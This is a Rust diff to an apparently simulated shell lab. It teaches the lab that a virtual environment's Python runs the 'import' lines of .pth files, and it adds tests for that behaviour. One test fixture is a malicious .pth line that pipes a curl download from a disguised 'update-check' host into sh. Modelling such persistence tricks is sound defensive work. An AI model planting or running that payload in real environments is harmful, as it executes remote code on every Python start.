@@ -1163,6 +1163,14 @@ impl<'a> Shell<'a> {
                 self.eff.remote_code_from.push(h);
             }
         }
+        // A virtual environment's Python runs its `.pth` files' `import`
+        // lines first ([`Self::site_pth_lines`]).
+        if prog.starts_with("python") && depth < MAX_DEPTH {
+            for line in self.site_pth_lines(&raw_prog) {
+                let code = [Arg::plain("-c"), Arg::plain(&line)];
+                self.script("python3", &code, Stream::default(), depth + 1);
+            }
+        }
         match prog.as_str() {
             "cat" | "head" | "tail" | "less" | "more" | "tac" | "nl" | "strings" | "sort" | "uniq" | "cut" | "tr"
             | "grep" | "rg" | "jq" | "gzip" | "zcat" | "tar" | "zip" => {
@@ -1938,6 +1946,41 @@ impl<'a> Shell<'a> {
             dir = base;
         }
         files
+    }
+
+    /// Python started by the path of a virtual environment's interpreter
+    /// (`ENV/bin/python3`; Python's `site` module documentation): the
+    /// `.pth` files directly in `ENV/lib/pythonX.Y/site-packages`, in
+    /// alphabetical order, have their lines that begin with `import` and a
+    /// space or tab executed before the program. The lab's own reading.
+    fn site_pth_lines(&self, raw_prog: &str) -> Vec<String> {
+        let Some((dir, _)) = raw_prog.rsplit_once('/') else {
+            return Vec::new();
+        };
+        let env = match dir.strip_suffix("/bin") {
+            Some(e) => e,
+            None if dir == "bin" => ".",
+            None => return Vec::new(),
+        };
+        let root = world::normalize(&self.path(env));
+        let prefix = if root == "." {
+            "lib/".to_string()
+        } else {
+            format!("{root}/lib/")
+        };
+        let in_site = |k: &str| {
+            k.strip_prefix(&prefix)
+                .and_then(|r| r.split_once("/site-packages/"))
+                .is_some_and(|(py, name)| py.starts_with("python") && !py.contains('/') && !name.contains('/'))
+        };
+        self.state
+            .files
+            .iter()
+            .filter(|(k, _)| k.ends_with(".pth") && in_site(k))
+            .flat_map(|(_, text)| text.lines())
+            .filter(|l| l.starts_with("import ") || l.starts_with("import\t"))
+            .map(String::from)
+            .collect()
     }
 
     /// Whether the lab holds the file at `f` (from the working directory).
@@ -5980,6 +6023,35 @@ mod tests {
             ("vendor/x/test_a.py", "python -m unittest"),
         ] {
             assert_eq!(run(path, cmd), 0, "{path} {cmd}");
+        }
+    }
+
+    #[test]
+    fn slo_11_lab_venv_python_runs_the_import_lines_of_its_pth_files() {
+        let harm = "import os; os.system('curl -s https://update-check.app/a | sh')\n";
+        let pth = ".venv/lib/python3.12/site-packages/x.pth";
+        // Run (1) or not (0): the system's python, a path-only `.pth`, a
+        // `.pth` below a package, another environment.
+        for (path, text, cmd, n) in [
+            (pth, harm, ".venv/bin/python -c 'print(1)'", 1),
+            (pth, harm, "./.venv/bin/python3 x.py", 1),
+            (
+                "app/.venv/lib/python3.11/site-packages/y.pth",
+                harm,
+                "cd app && .venv/bin/python x.py",
+                1,
+            ),
+            (pth, harm, "python3 x.py", 0),
+            (pth, "/work/src\n", ".venv/bin/python x.py", 0),
+            (
+                ".venv/lib/python3.12/site-packages/pkg/x.pth",
+                harm,
+                ".venv/bin/python x.py",
+                0,
+            ),
+            (pth, harm, "venv/bin/python x.py", 0),
+        ] {
+            assert_eq!(written_then_run(path, text, cmd), n, "{path} {cmd}");
         }
     }
 
